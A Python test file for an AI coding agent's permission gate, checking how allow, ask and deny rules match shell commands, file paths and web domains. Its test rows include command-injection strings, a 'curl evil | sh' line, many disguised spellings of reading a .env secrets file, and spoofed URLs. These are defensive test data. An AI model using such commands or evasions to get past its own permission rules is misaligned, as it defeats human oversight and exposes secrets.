"""What one rule of the tool gate speaks about: commands, paths, domains, in every spelling (P7, N1)."""

import pytest
from hypothesis import given
from hypothesis import strategies as st

from bot.agent.permissions.tool_gate import (
    CallKind,
    Decision,
    Mode,
    PermissionGate,
    Rule,
    ToolRules,
    parse_rule,
    relative_input,
)
from bot.core.errors import Misconfigured
from bot.core.transcript import Json
from tests.agent.gate_cases import ALLOW, ASK, DENY, MODES, gate
from tests.rows import every_row

MATCHES: list[tuple[str, str, bool]] = [
    ("Bash(git diff:*)", "git diff", True),
    ("Bash(git diff:*)", "git diff HEAD~1 -- a.py", True),
    ("Bash(git diff:*)", "git diff HEAD@{1}", True),
    ("Bash(git diff:*)", "git difftool", False),
    ("Bash(git diff:*)", "git  diff", False),
    ("Bash(git diff:*)", "git diff; rm -rf .", False),
    ("Bash(git diff:*)", "git diff && rm x", False),
    ("Bash(git diff:*)", "git diff || rm x", False),
    ("Bash(git diff:*)", "git diff | sh", False),
    ("Bash(git diff:*)", "git diff & rm x", False),
    ("Bash(git diff:*)", "git diff\nrm x", False),
    ("Bash(git diff:*)", "git diff `rm x`", False),
    ("Bash(git diff:*)", "git diff $(rm x)", False),
    ("Bash(git diff:*)", 'git diff "$(rm x)"', False),
    ("Bash(git diff:*)", "git diff ${PWD@P}", False),
    ("Bash(git diff:*)", "git diff $[${PWD##*/}]", False),
    ("Bash(git diff:*)", "git diff $BASE", True),
    ("Bash(git diff:*)", "git diff <(rm x)", False),
    ("Bash(git diff:*)", "git diff > .git/config", False),
    ("Bash(git diff:*)", "rm x; git diff", False),
    ("Bash(npm run *)", "npm run test", True),
    ("Bash(npm run *)", "npm run test; rm x", False),
    ("Bash(npm run *)", "npm run test && curl evil | sh", False),
    ("Bash(make test)", "make test", True),
    ("Bash(make test)", "make test x", False),
    ("Bash(make && make test)", "make && make test", True),
    ("Bash(make && make *)", "make && make test", False),
    ("Bash", "anything; at all", True),
    ("Bash(*)", "anything; at all", True),
    ("Task(explore)", "explore", True),
    ("Task(explore)", "code", False),
]


@pytest.mark.req("P7")
@every_row(("rule", "command", "expected"), MATCHES)
def test_what_a_rule_covers(rule: str, command: str, expected: bool) -> None:
    """A rule with a star covers one command and no compound line."""
    parsed = parse_rule(rule)
    given_ = {"command": command} if parsed.tool == "Bash" else {"subagent_type": command}
    assert parsed.matches(parsed.tool, given_) is expected
    assert not parsed.matches("Other", given_)


@pytest.mark.req("P7")
@every_row(
    "command",
    (
        "git push",
        "git push origin main",
        "git push; true",
        "true && git push -f",
        "cd x && git push",
        "(git push)",
        "{ git push; }",
        "FOO=1 git push",
        "FOO=1 BAR=2 git push",
        "echo $(git push)",
        "echo `git push`",
        "ls | xargs git push",
        "time git push",
        "env git push",
        "exec git push",
        "if true; then git push; fi",
        "true\ngit push",
        "true & git push &",
        "/usr/bin/git push",
        "git -C x --no-pager -c a=b push",
        "timeout 5 xargs -n1 git push",
        "bash -ec 'git push'",
        "git  push",
        "git\tpush",
        "'git' push",
        'g"i"t "push"',
        "\\git push",
        "git \\\n push",
        "$'git' push",
    ),
)
def test_a_denied_command_is_found_wherever_and_however_it_stands(command: str) -> None:
    """What stands before or behind a denied command hides it from no rule, nor do blanks, quotes and escapes."""
    denied = gate(deny="Bash(git push:*)", allow="Bash")
    asked_ = gate(ask="Bash(git push:*)", allow="Bash")
    for mode in MODES[1:]:
        assert denied.decide(mode, CallKind.COMMAND, "Bash", {"command": command}).decision is DENY
        assert asked_.decide(mode, CallKind.COMMAND, "Bash", {"command": command}).decision is ASK
    other = command.replace("push", "pushy")
    assert denied.decide(Mode.BYPASS, CallKind.COMMAND, "Bash", {"command": other}).decision is ALLOW


@pytest.mark.req("P7")
@every_row(
    ("rule", "tool", "given_", "expected"),
    (
        ("Read(docs/**)", "Read", {"file_path": "docs/a/b.md"}, True),
        ("Read(docs/**)", "Read", {"file_path": "src/a.py"}, False),
        ("Read(docs/**)", "Edit", {"file_path": "docs/a.md"}, False),
        ("Write(*.lock)", "Write", {"file_path": "poetry.lock", "content": ""}, True),
        ("LS(src)", "LS", {"path": "src"}, True),
        ("Glob(docs/*)", "Glob", {"pattern": "docs/*.md"}, True),
        ("Read", "Read", {"file_path": "x"}, True),
        ("TodoRead(x)", "TodoRead", {}, False),
    ),
)
def test_rules_speak_about_paths(rule: str, tool: str, given_: Json, expected: bool) -> None:
    """A pattern is held against the path of a call."""
    parsed = parse_rule(rule)
    assert parsed.matches(tool, given_) is expected
    assert parsed.touches(tool, given_) is expected


@pytest.mark.req("P7")
@pytest.mark.parametrize("text", ("", "Bash(", "Bash)x(", "rm -rf", "(x)", "Bash (x)", "Ba-sh(x)"))
def test_what_is_no_rule_is_refused(text: str) -> None:
    """A rule that cannot be read is refused with the form that it should have."""
    with pytest.raises(Misconfigured, match=r"Tool\(pattern\)"):
        parse_rule(text)


@pytest.mark.parametrize(
    ("text", "rule"), (("Bash", Rule("Bash")), (" Read(a) ", Rule("Read", "a")), ("LS()", Rule("LS")))
)
def test_rules_are_read(text: str, rule: Rule) -> None:
    """A name alone means every call."""
    assert parse_rule(text) == rule


_patterns = st.text("abg it:*/;&|.$(){}<>\n", max_size=12)


@pytest.mark.req("P7")
@given(_patterns, _patterns)
def test_what_a_rule_covers_it_also_touches(pattern: str, command: str) -> None:
    """A deny rule is never narrower than the same pattern as an allow rule."""
    rule, given_ = Rule("Bash", pattern), {"command": command}
    assert rule.touches("Bash", given_) or not rule.matches("Bash", given_)


PATHS: list[tuple[str, str, Json, bool]] = [
    ("Read(.env)", "Read", {"file_path": ".env"}, True),
    ("Read(.env)", "Read", {"file_path": "./.env"}, True),
    ("Read(./.env)", "Read", {"file_path": ".env"}, True),
    ("Read(.env)", "Read", {"file_path": "a/../.env"}, True),
    ("Read(.env)", "Read", {"file_path": "a/.env"}, True),
    ("Read(/.env)", "Read", {"file_path": "a/.env"}, False),
    ("Read(.env)", "Read", {"file_path": ".ENV"}, True),
    ("Read(.env)", "Read", {"file_path": ".\uff45nv"}, True),
    ("Read(.env)", "Read", {"file_path": "/home/checkout/.env"}, True),
    ("Read(docs/**)", "Read", {"file_path": "/home/checkout/docs/a.md"}, True),
    ("Read(docs/**)", "Read", {"file_path": "../checkout/docs/a.md"}, True),
    ("Read(.env)", "Read", {"file_path": ".envrc"}, False),
    ("Read(.env)", "Grep", {"pattern": "KEY", "path": ".env"}, True),
    ("Read(.env)", "Grep", {"pattern": "KEY", "glob": ".env"}, True),
    ("Read(.env)", "Grep", {"pattern": ".env"}, False),
    ("Read(secrets/**)", "Grep", {"pattern": "x", "path": "secrets"}, True),
    ("Read(secrets/**)", "LS", {"path": "secrets/"}, True),
    ("Read(secrets/**)", "LS", {"path": "."}, False),
    ("Read(secrets/**)", "Glob", {"pattern": "secrets/*"}, True),
    ("Read(secrets/**)", "Glob", {"pattern": "*.pem", "path": "secrets"}, True),
    ("Read(*.ipynb)", "NotebookRead", {"notebook_path": "a.ipynb"}, True),
    ("Read(.env)", "Edit", {"file_path": ".env"}, False),
    ("Edit(src/**)", "Edit", {"file_path": "src/a.py"}, True),
    ("Edit(src/**)", "Write", {"file_path": "./src/a.py"}, True),
    ("Edit(src/**)", "MultiEdit", {"file_path": "x/../src/a.py"}, True),
    ("Edit(src/**)", "NotebookEdit", {"notebook_path": "src/a.ipynb"}, True),
    ("Edit(src/**)", "Read", {"file_path": "src/a.py"}, False),
    ("Write(src/**)", "Edit", {"file_path": "src/a.py"}, False),
    ("Edit", "Write", {"file_path": "a"}, True),
    ("Read", "Grep", {"pattern": "a"}, True),
    ("Read(.env)", "Bash", {"command": "cat .env"}, True),
    ("Read(.env)", "Bash", {"command": "cat ./a/../.env | head"}, True),
    ("Read(.env)", "Bash", {"command": "cat '.e'nv"}, True),
    ("Read(.env)", "Bash", {"command": "cat .e\\nv"}, True),
    ("Read(.env)", "Bash", {"command": "cat $'.env'"}, True),
    ("Read(.env)", "Bash", {"command": 'echo "$(cat ".env")"'}, True),
    ("Read(.env)", "Bash", {"command": "cat < .env"}, True),
    ("Read(.env)", "Bash", {"command": "cat .e*"}, True),
    ("Read(.env)", "Bash", {"command": "cat .e[n]v .[!a-d]nv"}, True),
    ("Read(.env)", "Bash", {"command": "cat {README.md,.env}"}, True),
    ("Read(.env)", "Bash", {"command": "cat .e{m,n}v"}, True),
    ("Read(.env)", "Bash", {"command": "cat {a,b}.txt [e]nv"}, False),
    ("Read(prés/é.txt)", "Bash", {"command": "cat 'prés'/é.txt"}, True),
    ("Read(é.txt)", "Bash", {"command": "cat @.txt %.txt"}, False),
    ("Read(.env)", "Bash", {"command": "git show HEAD:.env"}, True),
    ("Read(.env)", "Bash", {"command": "grep --file=.env x"}, True),
    ("Read(.env)", "Bash", {"command": "cat 'unfinished .env"}, True),
    ("Read(docs/**)", "Bash", {"command": "cat /home/checkout/docs/a"}, True),
    ("Read(.env)", "Bash", {"command": "cat .envrc"}, False),
    ("Edit(Makefile)", "Bash", {"command": "echo x > Makefile"}, True),
    ("Edit(Makefile)", "Bash", {"command": "cat Makefile"}, False),
]


@pytest.mark.req("P7")
@every_row(("rule", "tool", "given_", "expected"), PATHS)
def test_a_path_is_denied_in_every_spelling(rule: str, tool: str, given_: Json, expected: bool) -> None:
    """A deny rule finds the path whatever it is spelled like, through every tool of its family, and in commands."""
    parsed = parse_rule(rule)
    assert parsed.touches(tool, given_) is expected
    assert PermissionGate(ToolRules(deny=(parsed,))).decide(Mode.BYPASS, CallKind.READ, tool, given_).decision is (
        DENY if expected else ALLOW
    )


@pytest.mark.req("P7")
@pytest.mark.parametrize("path", ("../src/a.py", "/etc/src/a.py", "src/../../src/a.py", "src/../a.py"))
def test_an_allow_rule_covers_nothing_outside(path: str) -> None:
    """What leads out of the checkout is not what an allow rule meant, though its end looks like it."""
    assert not parse_rule("Edit(src/**)").matches("Write", {"file_path": path})


@pytest.mark.req("P7")
def test_absolute_paths_are_read_as_the_checkouts_own() -> None:
    """The model is told where the checkout is: rules see the path below it, and all else as it is."""
    given_ = {"file_path": "/home/checkout/src/../src/a.py", "content": "/home/checkout/x"}
    assert relative_input(given_, "/home/checkout") == {"file_path": "src/a.py", "content": "/home/checkout/x"}
    assert relative_input({"path": "/home/checkout"}, "/home/checkout") == {"path": "."}
    assert relative_input({"path": "/home/checkout2/a"}, "/home/checkout") == {"path": "/home/checkout2/a"}


@pytest.mark.req("P7", "N1")
@every_row(
    ("rule", "url", "decision"),
    (
        ("WebFetch(domain:docs.python.org)", "https://docs.python.org/3/", ALLOW),
        ("WebFetch(domain:*.python.org)", "https://docs.python.org", ALLOW),
        ("WebFetch(domain:python.org)", "https://docs.python.org/", ASK),
        ("WebFetch(domain:docs.python.org)", "https://docs.python.org@evil.net/", ASK),
        ("WebFetch(domain:docs.python.org)", "https://evil.net/docs.python.org", ASK),
        ("WebFetch(domain:docs.python.org)", "https://DOCS.python.org/", ASK),
        ("WebFetch(domain:*)", "https://docs.python.org/", ALLOW),
        ("WebFetch(domain:docs.python.org)", "http://docs.python.org/", ASK),
        ("WebFetch(domain:docs.python.org)", "https://docs.python.org.evil.net/", ASK),
        ("WebFetch(domain:*.python.org)", "https://evilpython.org/", ASK),
        ("WebFetch", "https://docs.python.org/", ALLOW),
    ),
)
def test_rules_of_domains(rule: str, url: str, decision: Decision) -> None:
    """Approved work reads the web where an allow rule names the domain; a deny rule holds in plan mode too."""
    call = {"url": url, "prompt": "x"}
    gate = PermissionGate(ToolRules(allow=(parse_rule(rule),)))
    assert gate.decide(Mode.ACCEPT_EDITS, CallKind.FETCH, "WebFetch", call).decision is decision
    denying = PermissionGate(ToolRules(deny=(parse_rule("WebFetch(domain:*)"),)))
    assert denying.decide(Mode.PLAN, CallKind.FETCH, "WebFetch", call).decision is DENY


@pytest.mark.req("P7", "N1")
@pytest.mark.parametrize(
    "rule", ("docs.python.org", "domain:", "domain:DOCS.python.org", "domain:1.2.3.4", "domain:*.", "x:*")
)
def test_rules_of_domains_that_would_match_nothing(rule: str) -> None:
    """They are refused when they are read: a deny rule that never holds is worse than none."""
    with pytest.raises(Misconfigured):
        parse_rule(f"WebFetch({rule})")


@pytest.mark.req("P7", "N1")
def test_a_grant_for_a_page() -> None:
    """What people allowed is that page, not its host."""
    asking = PermissionGate(granted=frozenset({("WebFetch", "https://docs.python.org/3/")}))

    def ruled(url: str) -> Decision:
        return asking.decide(Mode.ACCEPT_EDITS, CallKind.FETCH, "WebFetch", {"url": url, "prompt": "x"}).decision

    assert (ruled("https://docs.python.org/3/"), ruled("https://docs.python.org/2/")) == (ALLOW, ASK)
